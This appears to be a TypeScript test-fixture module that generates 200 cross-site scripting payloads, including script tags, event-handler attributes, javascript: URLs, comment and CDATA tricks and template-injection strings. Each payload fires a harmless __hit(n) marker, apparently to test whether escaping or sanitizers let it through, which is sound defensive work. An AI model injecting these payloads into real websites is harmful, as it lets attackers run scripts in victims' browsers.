/** Runs when a payload gets through, and reports its number. */
const told = (n: number) => `__hit(${n})`;

const WAYS: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt/x>${run}</sCrIpT >`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img/src="x"/onerror="${run}"`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<body onload=${run}>`,
  (run) => `<iframe srcdoc="<script>${run}</script>">`,
  (run) => `<iframe src="javascript:${run}">`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<math><mtext><img src=x onerror=${run}>`,
  (run) => `<object data="javascript:${run}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<link rel=stylesheet href=x onerror=${run}>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<!--<img src="--><img src=x onerror=${run}>">`,
  (run) => `<![CDATA[><img src=x onerror=${run}>]]>`,
  (run) => `" autofocus onfocus=${run} x="`,
  (run) => `javascript:${run}//`,
  (run) => `';${run}//\\';${run}//";${run}//`,
  (run) => `\${${run}}{{constructor.constructor('${run}')()}}`,
];

/** Texts that may end the context they are inserted in. */
const BEFORE = ['', '"><', "'>", '</script>', '</title>', '</textarea></style>', '--!>', '\u2028]}'];

/** Two hundred texts that run a script wherever they are inserted unescaped. */
export const PAYLOADS: readonly string[] = BEFORE.flatMap((before, row) =>
  WAYS.map((way, column) => before + way(told(row * WAYS.length + column))),
);

/** Some of them, from the n-th on and wrapping around, up to this length. */
export function upTo(length: number, n: number, separator = ' '): string {
  let text = '';
  for (let step = 0; step < PAYLOADS.length; step++) {
    const next = PAYLOADS[(n + step) % PAYLOADS.length]!;
    if (next.length > length && text === '') continue;
    if (text.length + separator.length + next.length > length) break;
    text += (text && separator) + next;
  }
  return text;
}
